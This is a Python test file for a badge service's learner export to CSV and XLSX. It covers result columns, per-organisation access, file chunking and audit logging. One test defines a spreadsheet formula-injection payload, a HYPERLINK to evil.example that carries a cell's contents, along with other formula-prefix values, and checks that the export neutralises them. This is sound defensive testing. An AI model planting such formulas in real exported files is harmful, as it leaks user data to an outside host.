"""Who has what, as a file that a spreadsheet opens and that runs nothing there; that it was taken is written down."""

from __future__ import annotations

import csv
import re
from io import BytesIO, StringIO
from typing import Any
from zipfile import ZipFile

import pytest
from python_calamine import CalamineWorkbook
from sqlmodel import select, update

from badgeservice.catalogue import Catalogue
from badgeservice.errors import NotFound
from badgeservice.services.achievements.description import Description, ResultKind, ResultLine, columns_of
from badgeservice.services.achievements.kinds import Kind
from badgeservice.services.audit.names import find_names
from badgeservice.services.audit.sentences import say_event
from badgeservice.services.overview import export, files
from badgeservice.services.overview.export import Taken, take_achievement, take_batch, take_learners
from badgeservice.services.overview.files import write_csv, write_xlsx
from badgeservice.services.parts import Parts, SignedIn
from badgeservice.store.audit import AuditAction
from badgeservice.store.tables import AuditEvent, Award
from tests.conftest import School, describe, make_school
from tests.services.conftest import sign_in
from tests.services.overview.people import BEHIND, HEADS, award, wording

ANNA, BO = ("Anna Mol", "anna@leerling.example"), ("Bo Vos", "bo@leerling.example")
FORMULA = '=HYPERLINK("https://evil.example?"&A1,"Klik")'
GRADE = ResultLine("toets", ResultKind.GRADE, {"nl": {"name": "Toets"}}, required="5.5")
POINTS = ResultLine("punten", ResultKind.POINTS, {"nl": {"name": "Punten"}}, minimum="0", maximum="40")


def read(taken: Taken, separator: str = ";") -> list[list[str]]:
    text = "".join(write_csv(taken))
    assert text.startswith("\ufeff")
    return list(csv.reader(StringIO(text[1:], newline=""), delimiter=separator))


def cells(taken: Taken) -> list[list[Any]]:
    """As a spreadsheet reads them; there is no formula in it, and no link."""
    packed = write_xlsx(taken)
    with ZipFile(BytesIO(packed)) as parts:
        assert not any(re.search(rb"<f[ >]|hyperlink", parts.read(name)) for name in parts.namelist())
    return CalamineWorkbook.from_filelike(BytesIO(packed)).get_sheet_by_index(0).to_python()


def ask_for_results(parts: Parts, achievement_id: str) -> None:
    texts = {"nl": {"name": "x", "description": "x", "criteria": "x"}}
    columns = columns_of(Description(Kind.MODULE, "nl", texts, results=(GRADE, POINTS)))
    describe(parts, achievement_id, rubric=columns["rubric"], facts=columns["facts"])


def events(parts: Parts) -> list[AuditEvent]:
    with parts.reading() as session:
        return list(session.exec(select(AuditEvent).where(AuditEvent.action == AuditAction.LEARNERS_EXPORT)))


def test_a_badge_with_its_results(parts: Parts, school: School, teacher: SignedIn, company_teacher: SignedIn) -> None:
    ask_for_results(parts, school.achievement_id)
    award(parts, teacher, school.achievement_id, BO, ANNA, results={ANNA[1]: (("toets", "7.5"), ("punten", "38"))})
    award(parts, company_teacher, school.company_achievement_id, ANNA)
    taken = take_achievement(parts, teacher, school.achievement_id, "csv", wording())
    about = ["Houtbewerking: verbindingen", "", "1", "2026-11-23"]
    assert read(taken) == [
        [*HEADS, "Toets", "Punten", *BEHIND],
        [*ANNA, *about, "7,5", "38", "waiting", "", "ROC Midden", "Tess Bakker"],
        [*BO, *about, "", "", "waiting", "", "ROC Midden", "Tess Bakker"],
    ]
    english = take_achievement(parts, teacher, school.achievement_id, "csv", wording("en"))
    assert read(english, ",")[1][6] == "7.5"
    head, anna, bo = cells(taken)
    assert head[6] == "Toets"
    assert (anna[4], anna[6], anna[7], anna[5].isoformat()) == (1, 7.5, 38, "2026-11-23")
    assert bo[6] == ""


def test_no_cell_is_a_formula(parts: Parts, school: School, teacher: SignedIn) -> None:
    batch_id = award(parts, teacher, school.achievement_id, ANNA)
    for evil in (FORMULA, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        with parts.transaction() as session:
            session.exec(update(Award).values(learner_name=evil))
        taken = take_batch(parts, teacher, batch_id, "csv", wording())
        assert read(taken)[1][0][0] == "'"
        assert cells(taken)[1][0].strip() == evil.strip()


def test_that_it_was_taken_is_written_down_without_what_was_looked_for(
    parts: Parts, school: School, teacher: SignedIn
) -> None:
    batch_id = award(parts, teacher, school.achievement_id, ANNA, BO)
    take_batch(parts, teacher, batch_id, "xlsx", wording())
    take_learners(parts, teacher, "Anna", "", "csv", wording())
    take_learners(parts, teacher, "nobody at all", "", "csv", wording())
    of_list, of_words = events(parts)
    assert of_list.details == {"scope": "batch", "learners": 2, "format": "xlsx", "filtered": 0}
    assert of_words.details == {"scope": "learners", "learners": 1, "format": "csv", "filtered": 1}
    assert {of_list.organisation_id, of_words.organisation_id} == {school.organisation_id}
    assert (of_list.actor_id, of_list.subject_id) == (teacher.person_id, batch_id)
    with parts.reading() as session:
        found = find_names(session, events(parts), [f"/{school.organisation_id}/"])
        said = [Catalogue().say(say_event(event, found), "nl") for event in (of_list, of_words)]
    assert said == [
        "Tess Bakker downloadde wie “Houtbewerking: verbindingen” heeft. Aantal studenten: 2.",
        "Tess Bakker downloadde welke studenten welke badges hebben. Aantal badges: 1.",
    ]


def test_it_has_what_the_page_has_and_nothing_of_others(
    parts: Parts, school: School, teacher: SignedIn, company_teacher: SignedIn
) -> None:
    batch_id = award(parts, teacher, school.achievement_id, ANNA)
    award(parts, company_teacher, school.company_achievement_id, BO, ANNA)
    assert [row[2] for row in read(take_learners(parts, teacher, "", "", "csv", wording()))[1:]] == [
        "Houtbewerking: verbindingen"
    ]
    assert read(take_learners(parts, teacher, "bo vos", school.slug, "csv", wording()))[1:] == []
    for refused in (
        lambda: take_achievement(parts, company_teacher, school.achievement_id, "csv", wording()),
        lambda: take_batch(parts, company_teacher, batch_id, "csv", wording()),
        lambda: take_learners(parts, company_teacher, "", school.slug, "csv", wording()),
    ):
        with pytest.raises(NotFound):
            refused()
    assert [event.actor_id for event in events(parts)] == [teacher.person_id]


def test_a_long_file_comes_in_pieces_and_says_that_it_ends(
    sqlite_parts: Parts, monkeypatch: pytest.MonkeyPatch
) -> None:
    school = make_school(sqlite_parts)
    teacher = sign_in(school.teacher_id, school.teacher_email, school.organisation_id)
    monkeypatch.setattr(files, "AT_ONCE", 2)
    monkeypatch.setattr(export, "MOST", 5)
    monkeypatch.setattr(files, "MOST_RESULTS", 1)
    ask_for_results(sqlite_parts, school.achievement_id)
    learners = [(f"Kim Ter{chr(97 + n)}", f"k{n}@leerling.example") for n in range(7)]
    given = {"k0@leerling.example": (("toets", "6"), ("punten", "3"))}
    award(sqlite_parts, teacher, school.achievement_id, *learners, results=given)
    taken = take_achievement(sqlite_parts, teacher, school.achievement_id, "csv", wording())
    rows = read(taken)
    assert [row[0] for row in rows] == ["naam", *(name for name, _ in learners[:5]), "er is meer"]
    assert rows[0][6:-4] == ["resultaten"]
    assert rows[1][6] == "Toets: 6; Punten: 3"
    assert [row[0] for row in cells(taken)] == [row[0] for row in rows]
    assert events(sqlite_parts)[0].details["learners"] == 5
